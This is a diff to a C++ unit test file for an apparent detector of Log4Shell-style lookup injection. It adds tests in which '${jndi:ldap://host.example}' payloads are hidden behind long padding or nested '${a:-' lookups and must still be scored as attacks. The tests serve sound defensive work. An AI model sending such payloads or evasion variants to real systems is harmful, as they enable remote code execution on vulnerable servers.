@@ -30,11 +30,21 @@ TEST(Lookup, VariablesOfShellsAndTemplates) {
     EXPECT_LT(points(text), kThreshold) << text;
   }
 }
-TEST(Lookup, NestingIsBounded) {
-  std::string deep;
-  for (int i = 0; i < 1'000; ++i) deep += "${lower:";
-  EXPECT_LT(points(deep), kThreshold);
-  EXPECT_GE(points("${" + std::string(2'000, 'a') + "} ${jndi:ldap://host.example}"), 0U);
+TEST(Lookup, NestingIsBoundedAndTold) {
+  const auto nested = [](int depth) {
+    std::string text;
+    for (int i = 0; i < depth; ++i) text += "${a:-";
+    return text;
+  };
+  EXPECT_LT(points(nested(10)), kThreshold);
+  EXPECT_GE(points(nested(1'000)), kThreshold);
+}
+TEST(Lookup, NoLengthHidesOne) {
+  const std::string padding(5'000, 'a');
+  EXPECT_GE(points(padding + "${jndi:ldap://host.example}"), kThreshold);
+  EXPECT_GE(points("${" + padding + "}${jndi:ldap://host.example}"), kThreshold);
+  EXPECT_GE(points("${a:" + padding + "${jndi:ldap://host.example}}"), kThreshold);
+  EXPECT_LT(points(padding + "${" + padding + "}"), kThreshold);
 }
 TEST(Lookup, AnAttackAndItsNearMiss) {
   EXPECT_GE(points("${jndi:ldap://host.example/a}"), kThreshold);
